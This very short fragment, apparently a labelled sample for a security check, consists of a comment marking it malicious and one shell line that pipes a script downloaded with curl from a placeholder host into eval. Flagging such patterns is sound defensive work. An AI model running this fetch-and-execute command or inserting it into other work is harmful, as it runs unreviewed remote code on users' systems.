# malicious: evaluates what is downloaded
eval "$(curl -fsSL https://example.net/bootstrap)"
